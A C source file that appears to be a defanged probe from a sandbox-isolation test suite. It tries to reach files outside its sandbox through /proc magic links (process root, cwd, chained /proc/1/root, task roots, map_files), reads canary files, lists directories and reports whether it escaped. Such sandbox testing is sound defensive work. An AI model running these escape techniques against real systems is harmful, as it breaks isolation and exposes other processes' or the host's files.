/* proc_root_links: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F08: /proc magic links to other roots. For every visible pid and task: root, cwd, root/.., chained
 * /proc/<pid>/root/proc/1/root, map_files; each used to open the canary, list the canary dir and list
 * "/". Under a shared mount namespace /proc/1/root would be the host root. */
static int hits;
static void via(const char *pfx, const char *canary, const char *canary_dir)
{
    char p[1200];
    snprintf(p, sizeof p, "%s%s", pfx, canary); if (dump_path(p, 300) > 0) hits++;
    snprintf(p, sizeof p, "%s/../../../..%s", pfx, canary); if (dump_path(p, 300) > 0) hits++;
    snprintf(p, sizeof p, "%s%s", pfx, canary_dir);
    DIR *d = opendir(p);
    if (d) { struct dirent *e; int n = 0; printf("LIST %s:", p); while ((e = readdir(d)) && n++ < 30) printf(" %s", e->d_name); printf("\n"); closedir(d); }
    else printf("opendir %s: %s\n", p, strerror(errno));
    d = opendir(pfx);
    if (d) { struct dirent *e; int n = 0; printf("LIST %s:", pfx); while ((e = readdir(d)) && n++ < 40) printf(" %s", e->d_name); printf("\n"); closedir(d); }
    else printf("opendir %s: %s\n", pfx, strerror(errno));
}
int main(int argc, char **argv)
{
    const char *canary = argc > 1 ? argv[1] : "/nonexistent";
    const char *canary_dir = argc > 2 ? argv[2] : "/nonexistent";
    const char *sup = argc > 3 ? argv[3] : "0";
    const char *runner = argc > 4 ? argv[4] : "0";
    if (argc > 5) NONCE = argv[5];
    via("/proc/self/root", canary, canary_dir);
    via("/proc/thread-self/root", canary, canary_dir);
    via("/proc/self/cwd", canary, canary_dir);
    char pfx[256];
    snprintf(pfx, sizeof pfx, "/proc/%s/root", sup); via(pfx, canary, canary_dir);
    snprintf(pfx, sizeof pfx, "/proc/%s/cwd", sup); via(pfx, canary, canary_dir);
    snprintf(pfx, sizeof pfx, "/proc/%s/root", runner); via(pfx, canary, canary_dir);
    snprintf(pfx, sizeof pfx, "/proc/%d/root", getppid()); via(pfx, canary, canary_dir);
    DIR *d = opendir("/proc");
    int pids = 0;
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)) && pids < 200) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            pids++;
            char lk[600]; char tgt[512];
            const char *what[] = {"root", "cwd", "exe"};
            for (int w = 0; w < 3; w++) {
                snprintf(lk, sizeof lk, "/proc/%s/%s", e->d_name, what[w]);
                long n = readlink(lk, tgt, sizeof tgt - 1);
                if (n >= 0) { tgt[n] = 0; printf("pid %s %s -> %s\n", e->d_name, what[w], tgt); }
                else printf("pid %s %s: %s\n", e->d_name, what[w], strerror(errno));
            }
            snprintf(pfx, sizeof pfx, "/proc/%s/root", e->d_name); via(pfx, canary, canary_dir);
            snprintf(pfx, sizeof pfx, "/proc/%s/cwd", e->d_name); via(pfx, canary, canary_dir);
            snprintf(pfx, sizeof pfx, "/proc/%s/root/proc/1/root", e->d_name); via(pfx, canary, canary_dir);
            /* every task of the pid */
            char td[300]; snprintf(td, sizeof td, "/proc/%s/task", e->d_name);
            DIR *t = opendir(td);
            if (t) {
                struct dirent *te; int k = 0;
                while ((te = readdir(t)) && k++ < 20) {
                    if (te->d_name[0] < '0' || te->d_name[0] > '9') continue;
                    snprintf(pfx, sizeof pfx, "/proc/%s/task/%s/root", e->d_name, te->d_name);
                    char p[1200]; snprintf(p, sizeof p, "%s%s", pfx, canary); if (dump_path(p, 300) > 0) hits++;
                }
                closedir(t);
            }
            /* map_files: direct opens of mapped files */
            snprintf(td, sizeof td, "/proc/%s/map_files", e->d_name);
            t = opendir(td);
            if (t) { struct dirent *me; int k = 0; while ((me = readdir(t)) && k++ < 5) { char p[700]; snprintf(p, sizeof p, "%s/%s", td, me->d_name); if (me->d_name[0] != '.') dump_path(p, 16); } closedir(t); }
            else printf("opendir %s: %s\n", td, strerror(errno));
        }
        closedir(d);
    }
    printf("visible pids: %d\n", pids);
    report(hits > 0, "proc-root-link-read(%d)", hits);
    usleep(400000);
    return 0;
}
